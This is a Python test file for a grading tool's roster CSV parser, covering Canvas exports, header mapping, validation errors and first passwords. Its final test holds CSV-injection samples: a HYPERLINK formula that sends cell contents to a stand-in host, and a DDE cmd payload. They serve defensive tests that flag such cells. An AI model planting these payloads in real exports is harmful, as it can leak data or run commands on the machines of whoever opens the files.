"""Roster CSVs (grader/course/roster.py): the old email,name[,section] form, and files with a header row
whose columns are mapped by name (a Canvas gradebook export, a generic username/name/email/section
file), with a clear error when the header lacks a column a roster needs."""
from __future__ import annotations

import csv
import io

from grader.course.roster import RosterReport, first_password
from grader.course.roster_csv import RosterLine, formula_warnings, parse_roster

CANVAS = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Homework 4 (1234),Current Score\n"
    "    Points Possible,,,,,100.00,(read only)\n"
    '"Lovelace, Ada",101,2000101,ada,11-868 Lecture 1,90,90\n'
    '"Turing, Alan",102,2000102,Alan@Andrew.cmu.edu,11-868 Lecture 2,,\n'
    '"Student, Test",9,,,,,\n'
    '"Hopper, Grace",103,2000103,grace h,11-868 Lecture 1,,\n'
    '"Again, Ada",104,2000104,ADA,11-868 Lecture 1,,\n'
)


def test_a_canvas_export_is_read_by_its_column_names() -> None:
    lines, errors = parse_roster(CANVAS)
    assert lines == [
        RosterLine(3, None, "Lovelace, Ada", "11-868 Lecture 1", "ada", "101", "2000101", "ada"),
        # A login that is an address is also the student's email; Canvas's SIS Login ID keeps its case
        RosterLine(4, "alan@andrew.cmu.edu", "Turing, Alan", "11-868 Lecture 2", "alan@andrew.cmu.edu", "102",
                   "2000102", "Alan@Andrew.cmu.edu"),
    ]
    assert [str(e) for e in errors] == [  # the Points Possible line is skipped, not an error
        "line 5: the SIS Login ID is empty",
        "line 6: “grace h” is not a login (letters, digits and . _ @ + - only)",
        "line 7: ada is already on line 3",
    ]


def test_a_generic_header_in_any_order_with_an_email_column() -> None:
    text = (
        "E-mail,Full Name,Username,Section,Notes\n"
        "ann@uni.edu,Ann Lee,alee,B,quiet\n"
        "not-an-address,Bo Li,bli,,\n"
        ",Cy Diaz,cdiaz\n")  # a short line: the missing cells are empty
    lines, errors = parse_roster(text)
    assert lines == [RosterLine(2, "ann@uni.edu", "Ann Lee", "B", "alee"),
                     RosterLine(4, None, "Cy Diaz", None, "cdiaz")]
    assert [str(e) for e in errors] == ["line 3: “not-an-address” is not an email address"]


def test_an_email_column_is_the_login_when_there_is_no_login_column() -> None:
    lines, errors = parse_roster("name,email\nDee,Dee@Uni.edu\nEve,eve\n")
    assert lines == [RosterLine(2, "dee@uni.edu", "Dee", None, "dee@uni.edu")]
    assert [str(e) for e in errors] == ["line 3: “eve” is not an email address"]


def test_a_header_without_a_login_or_name_column_names_what_it_found_and_needs() -> None:
    lines, errors = parse_roster("Student,ID,SIS User ID,Section\n\"Lovelace, Ada\",101,2000101,A\n")
    assert lines == []
    assert [str(e) for e in errors] == [(
        "line 1: the header row names the columns “Student”, “ID”, “SIS User ID”, “Section”; a roster needs "
        "a login column (SIS Login ID, login or username) or an email column, and a name column (Student or "
        "name); section, email, ID and SIS User ID are optional, other columns are ignored")]


def test_the_old_form_keeps_its_column_count_with_or_without_its_header() -> None:
    for text in ("ada@uni.edu,Ada,A\nbob@uni.edu,Bob,B,extra\n",
                 "email,name,section\nada@uni.edu,Ada,A\nbob@uni.edu,Bob,B,extra\n"):
        lines, errors = parse_roster(text)
        first = 2 if text.startswith("email") else 1
        assert lines == [RosterLine(first, "ada@uni.edu", "Ada", "A", "ada@uni.edu")]
        assert [str(e) for e in errors] == [
            f"line {first + 1}: expected 2 or 3 columns (email,name[,section]), found 4"]


def test_first_passwords_as_a_csv_file() -> None:
    report = RosterReport(created=[("ada", "pw-1"), ("alan@andrew.cmu.edu", "pw,2")])
    assert list(csv.reader(io.StringIO(report.passwords_csv()))) == [
        ["login", "password"], ["ada", "pw-1"], ["alan@andrew.cmu.edu", "pw,2"]]


def test_first_passwords_are_long_and_read_as_text_by_spreadsheets() -> None:
    passwords = {first_password() for _ in range(200)}
    assert len(passwords) == 200 and all(len(p) == 12 and p.isalnum() for p in passwords)
    assert not set("".join(passwords)) & set("0O1lI")


def test_canvas_ids_are_numbers_once_per_file_and_its_note_lines_are_skipped() -> None:
    text = ("Student,ID,SIS User ID,SIS Login ID,Section,HW4 (77)\n"
            "    Points Possible,,,,,100\n"
            ",,,,,Manual Posting\n"  # Canvas's line for an assignment whose grades are posted by hand
            '"Lovelace, Ada",101,,ada,A,\n'
            '"Turing, Alan",101,,alan,A,\n'
            '"Hopper, Grace",G-103,,grace,A,\n')
    lines, errors = parse_roster(text)
    assert [(ln.login, ln.canvas_id, ln.sis_user_id) for ln in lines] == [("ada", "101", None)]
    assert [str(e) for e in errors] == [
        "line 5: Canvas ID 101 is already on line 4",
        "line 6: the ID “G-103” is not a Canvas user id (digits only); if that column holds something else, "
        "rename or remove it"]


def test_cells_that_look_like_formulas_are_kept_and_flagged_once_per_line() -> None:
    text = ("Student,ID,SIS User ID,SIS Login ID,Section\n"
            '"=HYPERLINK(""http://x.example/?""&A1,""Ada"")",1,@sis,ada,+A\n'
            '"-Bo",2,,bo,B\n'
            '"Cy Diaz",3,,cy,C\n'
            '"\t=cmd|\' /C calc\'!A0",4,,dee,D\n')
    lines, errors = parse_roster(text)
    assert not errors
    assert lines[0].name == '=HYPERLINK("http://x.example/?"&A1,"Ada")'  # kept as written
    warnings = formula_warnings(lines)  # a long cell shown in its first 40 characters
    assert len(warnings) == 3  # one per flagged line: Cy's is plain
    assert warnings[0] == ('line 2 (ada): the name “=HYPERLINK("http://x.example/?"&A1,"Ada"…” starts with '
                       "“=”; the section “+A” starts with “+”; the SIS User ID “@sis” starts with “@”")
    assert warnings[1] == "line 3 (bo): the name “-Bo” starts with “-”"
    assert warnings[2] == "line 5 (dee): the name “=cmd|' /C calc'!A0” starts with “=”"  # the tab trimmed
